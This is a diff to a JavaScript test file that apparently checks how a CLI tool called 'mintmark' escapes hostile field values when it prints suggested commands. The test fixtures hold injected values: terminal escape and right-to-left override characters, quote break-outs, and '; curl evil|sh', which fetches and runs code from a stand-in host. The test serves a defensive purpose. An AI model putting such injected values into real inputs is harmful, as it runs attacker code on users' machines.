@@ -115,9 +115,11 @@ describe('runCall', () => {
     const port = await listen([reply(activity('CONSENSUS_NEEDED', members)), reply({}, 404)]);
     const { code, reported } = await run(port, { waits });
     expect(code).toBe(waits ? 1 : 3);
-    expect(reported).toContain("\n    mintmark call get_activity 'activityId=a?[2J; curl evil|sh' --url ");
+    expect(reported).toContain("\n    mintmark call get_activity 'activityId=a\\u001b[2J; curl evil|sh' --url ");
     if (!waits)
-      expect(reported).toContain("\n    mintmark call approve_activity 'fingerprint=b?'\\''; curl evil|sh' --url ");
+      expect(reported).toContain(
+        "\n    mintmark call approve_activity 'fingerprint=b\\u202e'\\''; curl evil|sh' --url ",
+      );
     expect(reported).not.toMatch(/\P{ASCII}|\p{Cc}(?<!\n)/u);
   });
 
